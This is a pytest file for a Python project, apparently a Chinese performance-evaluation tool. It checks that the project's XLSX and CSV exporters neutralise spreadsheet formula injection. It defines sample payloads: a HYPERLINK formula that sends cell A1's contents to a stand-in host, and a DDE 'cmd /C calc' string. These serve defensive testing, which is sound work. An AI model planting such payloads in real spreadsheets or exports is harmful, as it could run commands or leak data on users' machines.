"""Exports safe to open (issue 17 §3): every XLSX writer keeps formula-like text (``=HYPERLINK(…)``,
``+1``, ``-2``, ``@SUM``, a leading TAB) as text, through the one helper :mod:`jixiao.publish.safe_cells`;
the CSV writer puts an apostrophe before it. A negative number stays a number."""

from __future__ import annotations

import dataclasses
import io
from collections.abc import Callable

import pytest
from openpyxl import Workbook, load_workbook

from jixiao.domain import Document
from jixiao.publish import safe_cells
from jixiao.publish.document import build
from jixiao.publish.monitoring_table import write_monitoring_table
from jixiao.publish.selfeval_table import write_selfeval_table
from jixiao.publish.template import write_template
from jixiao.publish.xlsx import write
from jixiao.review.engine import check_document
from jixiao.review.profile import load_profile
from jixiao.review.report import render_xlsx
from tests.publish.fixtures import expected_document

ATTACK = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
PLUS, AT, MINUS = "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3"


def _attacked() -> Document:
    doc = expected_document("linzi-2022")
    first = doc.projects[0]
    indicators = list(first.indicators)
    indicators[0] = dataclasses.replace(indicators[0], name=PLUS)
    indicators[1] = dataclasses.replace(indicators[1], name=AT)
    project = dataclasses.replace(first, name=ATTACK, unit=MINUS, indicators=tuple(indicators))
    return dataclasses.replace(doc, projects=(project, *doc.projects[1:]))


def _export_workbook(doc: Document) -> bytes:
    exports = pytest.importorskip("jixiao.web.exports")  # the list export lands beside this test
    Column, workbook = exports.Column, exports.workbook

    columns = [
        Column("名称", lambda p: p.name),
        Column("单位", lambda p: p.unit),
        Column("负数", lambda p: -5),
    ]
    return workbook("项目", columns, doc.projects)


WRITERS: dict[str, Callable[[Document], bytes]] = {
    "publish.xlsx": lambda doc: write(build(doc)),
    "publish.template": lambda doc: write_template(doc),
    "publish.monitoring_table": lambda doc: write_monitoring_table(doc, 6),
    "publish.selfeval_table": lambda doc: write_selfeval_table(doc),
    "review.report.xlsx (jixiao check --format xlsx)": lambda doc: render_xlsx(
        [check_document(doc, load_profile(None))]
    ),
    "web.exports (列表导出)": _export_workbook,
}


@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_every_xlsx_writer_keeps_formula_like_text_as_text(writer: str) -> None:
    wb = load_workbook(io.BytesIO(WRITERS[writer](_attacked())))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    # jixiao's own formulas (the execution rate of the fill-in tables) stay formulas; what came from the
    # document never becomes one.
    risky = [
        c for c in cells if isinstance(c.value, str) and any(a in c.value for a in (ATTACK, PLUS, AT, MINUS))
    ]
    assert any(c.value == ATTACK or ATTACK in str(c.value) for c in cells), "the name is written"
    assert risky and all(c.data_type == "s" for c in risky), [
        (c.coordinate, c.value) for c in risky if c.data_type != "s"
    ]
    assert not [c for c in cells if c.data_type == "f" and "HYPERLINK" in str(c.value)]


def test_the_list_export_keeps_a_negative_number_a_number() -> None:
    ws = load_workbook(io.BytesIO(_export_workbook(_attacked()))).active
    assert ws["C2"].value == -5 and ws["C2"].data_type == "n"
    assert ws["A2"].value == ATTACK and ws["A2"].quotePrefix


def test_a_cell_is_made_text_only_for_formula_like_strings() -> None:
    ws = Workbook().active
    for ref, value in {"A1": "=1+1", "A2": -3.5, "A3": "\tx", "A4": "路灯", "A5": "-", "A6": "\r=2"}.items():
        ws[ref] = value
        safe_cells.as_text(ws[ref])
    assert [ws[r].data_type for r in ("A1", "A2", "A3", "A4", "A5", "A6")] == ["s", "n", "s", "s", "s", "s"]
    assert [ws[r].quotePrefix for r in ("A1", "A2", "A4")] == [True, False, False]


def test_a_csv_field_gets_an_apostrophe_only_when_formula_like() -> None:
    assert [safe_cells.csv_field(v) for v in ("=1+1", "+1", "-2", "@x", "\tx", "路灯", -2, "", None)] == [
        "'=1+1",
        "'+1",
        "'-2",
        "'@x",
        "'\tx",
        "路灯",
        -2,
        "",
        None,
    ]


# The modules that write XLSX or CSV, each exercised above; a new writer fails here until it is added to a
# test above and calls the helper.
WRITER_MODULES = {
    "jixiao/publish/xlsx.py",
    "jixiao/publish/template.py",
    "jixiao/publish/fill_sheet.py",  # the monitoring and self-evaluation tables
    "jixiao/review/report/xlsx.py",
    "jixiao/web/exports.py",
    "jixiao/web/library/portal.py",  # the library CSV
    "jixiao/cli/analytics.py",  # jixiao analytics --format csv (tests/cli/test_analytics_cli.py)
}


def test_every_module_that_writes_a_workbook_or_csv_uses_the_helper() -> None:
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writers = {
        str(path.relative_to(root))
        for path in (root / "jixiao").rglob("*.py")
        if "Workbook(" in (text := path.read_text("utf-8"))
        or "csv.writer(" in text
        or "csv.DictWriter(" in text
    }
    assert writers == WRITER_MODULES
    assert all("safe_cells" in (root / module).read_text("utf-8") for module in writers)
